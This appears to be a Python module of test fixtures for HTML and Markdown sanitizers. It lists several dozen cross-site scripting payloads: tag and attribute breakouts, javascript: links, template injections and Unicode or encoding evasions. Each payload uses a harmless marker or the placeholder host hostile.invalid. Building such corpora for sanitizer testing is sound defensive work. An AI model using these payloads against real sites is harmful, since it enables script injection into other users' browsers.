"""What somebody might type into a field in order to run in another reader's browser.

Each text says where it would be seen: it sets `window.hit` or asks `hostile.invalid`. Short
enough for most fields; the shapes are those that sanitizers have let through at some time.
"""

from __future__ import annotations

OUT = "//hostile.invalid/"
RUN = "window.hit=1"

MARKUP = (
    "<script>{run}</script>",
    "<script src={out}a.js></script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<scr<script>ipt>{run}</script>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src='{out}a.png'>",
    "<img srcset='{out}a.png 1x'>",
    "<img/src=x/onerror={run}//",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><image href='{out}a.png'/></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<math><style><img src=x onerror={run}></style></math>",
    "<body onload={run}>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src={out}frame></iframe>",
    "<object data={out}a></object>",
    "<embed src={out}a>",
    "<link rel=stylesheet href={out}a.css>",
    "<style>@import url({out}a.css);</style>",
    "<style>body{{background:url({out}a.png)}}</style>",
    "<p style='background:url({out}a.png)'>x</p>",
    "<base href={out}>",
    "<meta http-equiv=refresh content='0;url={out}'>",
    "<form action={out}><input name=q autofocus onfocus={run}></form>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<video poster={out}a.png></video>",
    "<audio src=x onerror={run}></audio>",
    "<marquee onstart={run}>x</marquee>",
    "<a href='javascript:{run}' autofocus onfocus={run}>x</a>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<select><noembed></select><script>{run}</script></noembed>",
    "<x contenteditable autofocus onfocus={run}>x</x>",
)
ATTRIBUTES = (
    '" onmouseover="{run}" autofocus onfocus="{run}" x="',
    "' onmouseover='{run}' autofocus onfocus='{run}' x='",
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "` onfocus={run} autofocus x=`",
    " autofocus onfocus={run} ",
    'x" style="background:url({out}a.png)',
    '\\"><script>{run}</script>',
    "&quot;><script>{run}</script>",
)
DATA_BLOCKS = (
    "</script><img src=x onerror={run}>",
    "<!--<script>{run}</script>",
    "\\u003c/script\\u003e<script>{run}</script>",
    '"}}</script><script>{run}</script>',
    "\u2028{run}//",
    "*/{run}/*",
)
MARKDOWN = (
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java&#10;script:{run})",
    "[x](&#106;avascript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x](vbscript:{run})",
    "[x](javascript&colon;{run})",
    "<javascript:{run}>",
    "![x](javascript:{run})",
    "![x](https:{out}a.png)",
    '![x](https:{out}a.png "onerror={run}")',
    "[x]: javascript:{run}\n\n[x]",
    '[x](https://a.example" onmouseover="{run})',
    "[x](https://a.example 'x\" onmouseover=\"{run}')",
    "**<script>{run}</script>**",
    "```\n</code></pre><script>{run}</script>\n```",
    "`</code><script>{run}</script>`",
    "| a |\n|---|\n| <script>{run}</script> |",
    '<https:{out}"onmouseover={run}>',
    "&lt;script&gt;{run}&lt;/script&gt;",
)
TEMPLATES = (
    "{{{{ 7|add:7 }}}}<script>{run}</script>",
    "{{% include 'base.html' %}}",
    "{{% debug %}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
)
SIGNS = (
    "\u202e<script>{run}</script>",
    "\u200b<script>{run}</script>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<\u0131mg src=x onerror={run}>",
    "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "<img\tsrc=x\nonerror={run}>",
    "\ufeff<script>{run}</script>",
)

# By sort, so that a field can hold one of each in few rounds.
SORTS = tuple(
    tuple(text.format(run=RUN, out=OUT) for text in texts)
    for texts in (
        MARKUP[: len(MARKUP) // 2] + TEMPLATES,
        MARKUP[len(MARKUP) // 2 :] + SIGNS,
        ATTRIBUTES + DATA_BLOCKS,
        MARKDOWN,
    )
)
HOSTILE = tuple(text for sort in SORTS for text in sort)
